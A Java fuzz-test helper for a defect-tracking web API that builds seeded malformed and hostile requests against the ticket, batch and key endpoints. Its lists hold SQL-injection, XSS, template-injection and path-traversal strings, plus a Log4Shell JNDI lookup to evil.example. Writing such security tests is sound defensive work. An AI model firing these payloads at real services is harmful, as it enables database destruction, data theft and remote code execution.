package com.defectradar.web;

import com.defectradar.support.TestKeys;
import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.ObjectMapper;

import java.io.ByteArrayOutputStream;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Supplier;

/**
 * Malformed and hostile requests, made from a seed so every run sends the same ones: wrong types, huge
 * strings and numbers, NaN and Infinity, deep nesting, invalid UTF-8, truncated JSON, wrong content types,
 * 20 MB bodies, SQL and script fragments in every string field, across the ticket, batch and key endpoints.
 */
final class Attacks {

    /** One request; the body is made when sent, so the 20 MB ones do not sit in memory together. */
    record Attack(String label, String method, String path, String authorization, String contentType,
                  Supplier<byte[]> body) {
    }

    /** A ticket with hostile but valid text, which must be stored exactly as sent. */
    record Verbatim(String ticketId, String field, String value) {
    }

    static final String ADMIN = TestKeys.bearer(TestKeys.ADMIN);
    static final String REPORTER = TestKeys.bearer(TestKeys.REPORTER);
    static final String VERBATIM_SOURCE = "fuzz-verbatim";

    static final List<String> STRING_FIELDS = List.of("source", "ticketId", "unitId", "component", "symptomCode",
            "productionBatch", "firmwareVersion", "model", "serviceCenter", "region", "description", "currency");
    static final List<String> FIELDS = List.of("source", "ticketId", "unitId", "component", "symptomCode",
            "occurredAt", "productionBatch", "productionDate", "firmwareVersion", "ambientTemperatureC", "model",
            "serviceCenter", "region", "mileageKm", "description", "laborHours", "partsCost", "currency");

    /** Text that is hostile to a careless service but valid input: stored verbatim (all ≤ 64 characters). */
    static final List<String> HOSTILE_TEXT = List.of(
            "'; DROP TABLE ticket; --",
            "' OR '1'='1",
            "1; SELECT pg_sleep(10)",
            "$$; delete from api_key; $$",
            "\\'; truncate ticket cascade; --",
            "Robert'); DROP TABLE students;--",
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "{{7*7}} ${7*7} #{7*7}",
            "${jndi:ldap://evil.example/a}",
            "../../../../etc/passwd",
            "%00%27%22",
            "🔋🔥 Akku-Ausfall ❄",
            "\u202eRTL override\u202c",
            "quote \" backslash \\ slash /",
            "tab\tnew\nline",
            "电池续航下降");

    /** JSON fragments that are not acceptable values for most fields. */
    static final List<String> BAD_VALUES = List.of(
            "true", "false", "null", "[]", "{}", "[1,2,3]", "{\"a\":{\"b\":1}}", "0", "-1", "1e400", "-1e400", "1e-400",
            "-0", "80.0000001", "-80.0000001", "1" + "0".repeat(99), "9223372036854775808", "-9223372036854775809",
            "12345678901234567890.123456789", "\"\"", "\"   \"", "\"\\u0000\"", "\"a\\u0000b\"", "\"\\ud800\"",
            "\"\\udfff\\ud800\"", "\"\\u0007\\u001b[31m\"", "\"NaN\"", "\"-5\"", "\"2021-02-30\"", "\"+999999999-12-31T23:59:59Z\"",
            "\"9999-12-31\"", "\"0000-01-01\"", "\"1899-12-31\"", "\"2021-01-07T06:24:00\"", "\"2021-01-07T06:24:00+25:00\"",
            "\"yesterday\"", "\"2100-01-01\"", "\"2021-W01-1\"", "\"14.12.2020\"", "\"CNYX\"", "\"C1Y\"",
            "[" .repeat(31) + "]".repeat(31));

    /** Fragments that make the whole document invalid JSON or break a parser limit. */
    static final List<String> BROKEN_VALUES = List.of(
            "NaN", "Infinity", "-Infinity", "0x10", "01", "1.", ".5", "+1", "undefined", "'single'", "\"unterminated",
            "1" + "0".repeat(150), "[".repeat(40) + "]".repeat(40), "{\"a\":".repeat(40) + "1" + "}".repeat(40),
            "\"\\x41\"", "\"\\u12\"");

    private final Random random;
    private final ObjectMapper json = new ObjectMapper();
    private final List<Attack> attacks = new ArrayList<>();
    private final List<Verbatim> verbatim = new ArrayList<>();
    private int sequence;

    Attacks(long seed) {
        this.random = new Random(seed);
    }

    List<Attack> attacks() {
        return attacks;
    }

    List<Verbatim> verbatim() {
        return verbatim;
    }

    Attacks build() {
        for (int i = 0; i < STRING_FIELDS.size() * HOSTILE_TEXT.size(); i++) {
            hostileButValidText(STRING_FIELDS.get(i % STRING_FIELDS.size()), HOSTILE_TEXT.get(i / STRING_FIELDS.size()));
        }
        for (int i = 0; i < 700; i++) {
            singleTicket();
        }
        for (int i = 0; i < 300; i++) {
            jsonArrayBatch();
        }
        for (int i = 0; i < 150; i++) {
            ndjsonBatch();
        }
        for (int i = 0; i < 200; i++) {
            productionBatch();
        }
        for (int i = 0; i < 150; i++) {
            keyRequest();
        }
        for (int i = 0; i < 250; i++) {
            query();
        }
        for (int i = 0; i < 40; i++) {
            hostileAuthorization();
        }
        hugeBodies();
        return this;
    }

    // --- tickets ------------------------------------------------------------------------------------------

    private void hostileButValidText(String field, String value) {
        String ticketId = "V-" + (++sequence);
        Map<String, String> ticket = validTicket(VERBATIM_SOURCE, ticketId);
        if (field.equals("currency")) {
            // three letters only; the hostile part goes into the description instead
            field = "description";
        }
        if (field.equals("source") || field.equals("ticketId")) {
            // those two identify the ticket for the read-back: hostile text goes into unitId then
            field = "unitId";
        }
        ticket.put(field, quote(value));
        verbatim.add(new Verbatim(ticketId, field, value));
        attacks.add(new Attack("verbatim " + field, "POST", "/api/v1/tickets", ADMIN, "application/json",
                bytes(object(ticket))));
    }

    private void singleTicket() {
        String label;
        byte[] body;
        int kind = random.nextInt(10);
        switch (kind) {
            case 0, 1, 2 -> {
                Map<String, String> ticket = mutated(1 + random.nextInt(3));
                label = "single mutated";
                body = object(ticket).getBytes(StandardCharsets.UTF_8);
            }
            case 3 -> {
                Map<String, String> ticket = validTicket("fuzz-" + random.nextInt(5), "S-" + (++sequence));
                ticket.put(pick(FIELDS), pick(BROKEN_VALUES));
                label = "single broken value";
                body = object(ticket).getBytes(StandardCharsets.UTF_8);
            }
            case 4 -> {
                String whole = object(validTicket("fuzz-" + random.nextInt(5), "S-" + (++sequence)));
                label = "single truncated";
                body = whole.substring(0, random.nextInt(whole.length())).getBytes(StandardCharsets.UTF_8);
            }
            case 5 -> {
                label = "single invalid UTF-8";
                body = invalidUtf8(object(validTicket("fuzz-" + random.nextInt(5), "S-" + (++sequence))));
            }
            case 6 -> {
                Map<String, String> ticket = validTicket("fuzz-" + random.nextInt(5), "S-" + (++sequence));
                ticket.put(pick(STRING_FIELDS), quote(longText(pick(List.of(65, 129, 4001, 70_000)))));
                label = "single long string";
                body = object(ticket).getBytes(StandardCharsets.UTF_8);
            }
            case 7 -> {
                Map<String, String> ticket = validTicket("fuzz-" + random.nextInt(5), "S-" + (++sequence));
                ticket.remove(pick(List.of("source", "ticketId", "unitId", "component", "symptomCode", "occurredAt")));
                label = "single missing field";
                body = object(ticket).getBytes(StandardCharsets.UTF_8);
            }
            case 8 -> {
                label = "single odd document";
                body = oddDocument();
            }
            default -> {
                label = "single wrong content type";
                attacks.add(new Attack(label, "POST", "/api/v1/tickets", ADMIN, pick(WRONG_CONTENT_TYPES),
                        bytes(object(validTicket("fuzz-" + random.nextInt(5), "S-" + (++sequence))))));
                return;
            }
        }
        byte[] finalBody = body;
        attacks.add(new Attack(label, "POST", "/api/v1/tickets", random.nextInt(4) == 0 ? REPORTER : ADMIN,
                "application/json", () -> finalBody));
    }

    private void jsonArrayBatch() {
        int kind = random.nextInt(6);
        if (kind <= 2) {
            StringBuilder array = new StringBuilder("[");
            int items = 1 + random.nextInt(20);
            for (int i = 0; i < items; i++) {
                array.append(i == 0 ? "" : ",").append(random.nextInt(5) == 0 ? pick(BAD_VALUES) : object(mutated(random.nextInt(3))));
            }
            attacks.add(new Attack("batch mutated items", "POST", "/api/v1/tickets/batch", ADMIN, "application/json",
                    bytes(array.append("]").toString())));
        } else if (kind == 3) {
            String whole = "[" + object(mutated(1)) + "," + object(mutated(0)) + "]";
            String broken = random.nextBoolean() ? whole.substring(0, random.nextInt(whole.length()))
                    : whole.replaceFirst(":", ":" + pick(BROKEN_VALUES) + ",\"x\":");
            attacks.add(new Attack("batch broken", "POST", "/api/v1/tickets/batch", ADMIN, "application/json", bytes(broken)));
        } else if (kind == 4) {
            byte[] body = random.nextBoolean() ? oddDocument() : invalidUtf8("[" + object(mutated(0)) + "]");
            attacks.add(new Attack("batch odd document", "POST", "/api/v1/tickets/batch", ADMIN, "application/json", () -> body));
        } else {
            attacks.add(new Attack("batch wrong content type", "POST", "/api/v1/tickets/batch", ADMIN,
                    pick(WRONG_CONTENT_TYPES), bytes("[" + object(mutated(0)) + "]")));
        }
    }

    private void ndjsonBatch() {
        StringBuilder lines = new StringBuilder();
        int count = 1 + random.nextInt(10);
        for (int i = 0; i < count; i++) {
            String line = switch (random.nextInt(6)) {
                case 0 -> pick(BAD_VALUES);
                case 1 -> pick(BROKEN_VALUES);
                case 2 -> "";
                default -> object(mutated(random.nextInt(2)));
            };
            lines.append(line).append(random.nextBoolean() ? "\n" : "\r\n");
        }
        byte[] body = random.nextInt(5) == 0 ? invalidUtf8(lines.toString()) : lines.toString().getBytes(StandardCharsets.UTF_8);
        attacks.add(new Attack("ndjson", "POST", "/api/v1/tickets/batch", random.nextInt(4) == 0 ? REPORTER : ADMIN,
                "application/x-ndjson", () -> body));
    }

    // --- production batches and keys --------------------------------------------------------------------

    private void productionBatch() {
        String id = random.nextInt(3) == 0 ? pick(HOSTILE_PATH_SEGMENTS) : "FUZZ-BAT-" + random.nextInt(20);
        Map<String, String> batch = new LinkedHashMap<>();
        batch.put("component", quote("battery"));
        batch.put("unitsProduced", String.valueOf(1 + random.nextInt(10_000)));
        batch.put("producedFrom", quote("2020-12-01"));
        batch.put("producedTo", quote("2020-12-31"));
        batch.put("unitRecallCost", "15000");
        batch.put("currency", quote("CNY"));
        List<String> fields = new ArrayList<>(batch.keySet());
        int mutations = random.nextInt(3);
        for (int i = 0; i < mutations; i++) {
            batch.put(pick(fields), random.nextInt(4) == 0 ? pick(BROKEN_VALUES) : pick(BAD_VALUES));
        }
        String body = random.nextInt(8) == 0 ? pick(BAD_VALUES) : object(batch);
        attacks.add(new Attack("batch PUT", "PUT", "/api/v1/batches/" + id, ADMIN,
                random.nextInt(10) == 0 ? pick(WRONG_CONTENT_TYPES) : "application/json", bytes(body)));
    }

    private void keyRequest() {
        Map<String, String> key = new LinkedHashMap<>();
        key.put("role", quote(pick(List.of("reporter", "engineer", "admin", "REPORTER", " root ", "", "reporter\u0000"))));
        key.put("name", random.nextBoolean() ? quote(pick(HOSTILE_TEXT)) : pick(BAD_VALUES));
        if (random.nextBoolean()) {
            key.put("source", random.nextBoolean() ? quote(pick(HOSTILE_TEXT)) : pick(BAD_VALUES));
        }
        String body = switch (random.nextInt(5)) {
            case 0 -> pick(BROKEN_VALUES);
            case 1 -> object(key).substring(0, 1 + random.nextInt(object(key).length() - 1));
            default -> object(key);
        };
        attacks.add(new Attack("key POST", "POST", "/api/v1/keys", ADMIN, "application/json", bytes(body)));
    }

    // --- reads, URLs and headers ------------------------------------------------------------------------

    private void query() {
        List<String> params = List.of("productionBatch", "component", "symptomCode", "source", "from", "to", "limit", "cursor");
        int kind = random.nextInt(10);
        String path;
        if (kind == 0) {
            path = "/api/v1/tickets/" + pick(HOSTILE_PATH_SEGMENTS);
        } else if (kind == 1) {
            path = "/api/v1/keys/" + pick(HOSTILE_PATH_SEGMENTS);
            attacks.add(new Attack("key DELETE", "DELETE", path, ADMIN, null, () -> null));
        } else if (kind == 2) {
            path = "/api/v1/batches/" + pick(HOSTILE_PATH_SEGMENTS);
        } else {
            StringBuilder query = new StringBuilder("/api/v1/tickets?");
            int count = 1 + random.nextInt(3);
            for (int i = 0; i < count; i++) {
                query.append(i == 0 ? "" : "&").append(pick(params)).append('=').append(pick(HOSTILE_QUERY_VALUES));
            }
            path = query.toString();
        }
        attacks.add(new Attack("GET " + path.replaceAll("[?/].*", ""), "GET", path,
                random.nextInt(3) == 0 ? REPORTER : ADMIN, null, () -> null));
    }

    private void hostileAuthorization() {
        String authorization = pick(List.of("Bearer " + "k".repeat(8_000), "Bearer dr_aaaaaaaaaaaaaaaa_' OR '1'='1",
                "Bearer dr_' OR 1=1 --_x", "Bearer", "Bearer  ", "bearer " + TestKeys.ADMIN.toUpperCase(),
                "Bearer " + TestKeys.ADMIN + " extra", "Bearer " + TestKeys.ADMIN.substring(1), "Digest x", "Bearer dr_",
                "Bearer dr___", "Bearer %00"));
        attacks.add(new Attack("hostile Authorization", "POST", "/api/v1/tickets", authorization, "application/json",
                bytes(object(validTicket("fuzz-auth", "A-" + (++sequence))))));
    }

    private void hugeBodies() {
        int twentyMb = 20 * 1024 * 1024;
        attacks.add(new Attack("20 MB JSON array", "POST", "/api/v1/tickets/batch", ADMIN, "application/json",
                () -> padded("[\"", twentyMb, "\"]")));
        attacks.add(new Attack("20 MB NDJSON", "POST", "/api/v1/tickets/batch", ADMIN, "application/x-ndjson",
                () -> padded("{\"description\":\"", twentyMb, "\"}\n")));
        attacks.add(new Attack("20 MB single", "POST", "/api/v1/tickets", ADMIN, "application/json",
                () -> padded("{\"source\":\"", twentyMb, "\"}")));
        attacks.add(new Attack("20 MB key", "POST", "/api/v1/keys", ADMIN, "application/json",
                () -> padded("{\"name\":\"", twentyMb, "\"}")));
    }

    // --- material -----------------------------------------------------------------------------------------

    static final List<String> WRONG_CONTENT_TYPES = List.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=xyz", "application/octet-stream", "application/json-patch+json", "*/*", "image/png");

    static final List<String> HOSTILE_PATH_SEGMENTS = List.of("-1", "0", "99999999999999999999", "1e3", "%27%20OR%201%3D1",
            "abc", "%3Cscript%3E", "..%2F..%2Fetc%2Fpasswd", "%F0%9F%94%8B", "x".repeat(300), "%C3%28", "%E2%80%AE",
            "aaaaaaaaaaaaaaaa", "%20", "%00", "a%00b", "%25", "AAAAAAAAAAAAAAAA", "%2e%2e");

    static final List<String> HOSTILE_QUERY_VALUES = List.of(enc("'; DROP TABLE ticket; --"), enc("' OR '1'='1"),
            enc("<script>alert(1)</script>"), "x".repeat(1_200), "%C3%28", "%FF%FE", "%00", "%zz", "%", "-1", "0",
            "1001", "99999999999999999999", "1e3", enc("2021-02-30"), enc("+999999999-12-31T23:59:59Z"), "yesterday",
            enc("2021-01-07T06:24:00Z"), "AAAA", enc("dGlja2V0fDE"), enc("dGlja2V0fGFiYw"), enc("b3RoZXJ8MQ"),
            enc("🔋"), "", enc(" "), enc("BAT-2020-12-A"));

    private Map<String, String> mutated(int mutations) {
        Map<String, String> ticket = validTicket("fuzz-" + random.nextInt(5), "M-" + (++sequence));
        for (int i = 0; i < mutations; i++) {
            String field = pick(FIELDS);
            ticket.put(field, random.nextInt(3) == 0 && STRING_FIELDS.contains(field)
                    ? quote(pick(HOSTILE_TEXT)) : pick(BAD_VALUES));
        }
        return ticket;
    }

    private Map<String, String> validTicket(String source, String ticketId) {
        Instant occurred = Instant.parse("2020-06-01T00:00:00Z").plus(random.nextInt(500), ChronoUnit.DAYS);
        Map<String, String> ticket = new LinkedHashMap<>();
        ticket.put("source", quote(source));
        ticket.put("ticketId", quote(ticketId));
        ticket.put("unitId", quote("VIN-" + random.nextInt(1_000_000)));
        ticket.put("component", quote(pick(List.of("battery", "BMS", "lv_power"))));
        ticket.put("symptomCode", quote(pick(List.of("RANGE_DROP", "NO_START"))));
        ticket.put("occurredAt", quote(occurred.toString()));
        ticket.put("productionBatch", quote("BAT-" + random.nextInt(10)));
        ticket.put("productionDate", quote("2020-05-14"));
        ticket.put("firmwareVersion", quote("BMS-10." + random.nextInt(4)));
        ticket.put("ambientTemperatureC", String.valueOf(random.nextInt(121) - 60));
        ticket.put("mileageKm", String.valueOf(random.nextInt(300_000)));
        ticket.put("laborHours", "1.5");
        ticket.put("partsCost", "120.50");
        ticket.put("currency", quote("CNY"));
        return ticket;
    }

    private byte[] oddDocument() {
        return switch (random.nextInt(12)) {
            case 0 -> new byte[0];
            case 1 -> " \n\t ".getBytes(StandardCharsets.UTF_8);
            case 2 -> "null".getBytes(StandardCharsets.UTF_8);
            case 3 -> "\"just a string\"".getBytes(StandardCharsets.UTF_8);
            case 4 -> "12345".getBytes(StandardCharsets.UTF_8);
            case 5 -> ("\uFEFF" + object(mutated(0))).getBytes(StandardCharsets.UTF_8);
            case 6 -> "[".repeat(10_000).getBytes(StandardCharsets.UTF_8);
            case 7 -> ("{" + "\"k\":1,".repeat(5_000) + "\"k\":2}").getBytes(StandardCharsets.UTF_8);
            case 8 -> ("{\"" + "n".repeat(60_000) + "\":1}").getBytes(StandardCharsets.UTF_8);
            case 9 -> object(mutated(0)).getBytes(StandardCharsets.UTF_16);
            case 10 -> "<ticket><source>x</source></ticket>".getBytes(StandardCharsets.UTF_8);
            default -> {
                byte[] noise = new byte[1 + random.nextInt(2_000)];
                random.nextBytes(noise);
                yield noise;
            }
        };
    }

    /** Valid JSON text with one string value's bytes replaced by a sequence that is not UTF-8. */
    private byte[] invalidUtf8(String text) {
        byte[][] bad = {{(byte) 0xC3, 0x28}, {(byte) 0xFF, (byte) 0xFE}, {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
                {(byte) 0xC0, (byte) 0xAF}, {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80}, {(byte) 0x80}};
        int at = text.indexOf("VIN-");
        byte[] original = text.getBytes(StandardCharsets.UTF_8);
        int position = at < 0 ? original.length / 2 : text.substring(0, at).getBytes(StandardCharsets.UTF_8).length;
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(original, 0, position);
        out.writeBytes(bad[random.nextInt(bad.length)]);
        out.write(original, position, original.length - position);
        return out.toByteArray();
    }

    private static byte[] padded(String head, int size, String tail) {
        byte[] body = new byte[size];
        java.util.Arrays.fill(body, (byte) 'x');
        byte[] start = head.getBytes(StandardCharsets.UTF_8);
        byte[] end = tail.getBytes(StandardCharsets.UTF_8);
        System.arraycopy(start, 0, body, 0, start.length);
        System.arraycopy(end, 0, body, size - end.length, end.length);
        return body;
    }

    private String longText(int length) {
        return "L".repeat(length);
    }

    private static String object(Map<String, String> fields) {
        StringBuilder object = new StringBuilder("{");
        fields.forEach((name, raw) -> object.append(object.length() > 1 ? "," : "").append('"').append(name).append("\":").append(raw));
        return object.append('}').toString();
    }

    private String quote(String text) {
        try {
            return json.writeValueAsString(text);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    private static Supplier<byte[]> bytes(String text) {
        byte[] body = text.getBytes(StandardCharsets.UTF_8);
        return () -> body;
    }

    private static String enc(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8);
    }

    private <T> T pick(List<T> from) {
        return from.get(random.nextInt(from.size()));
    }
}
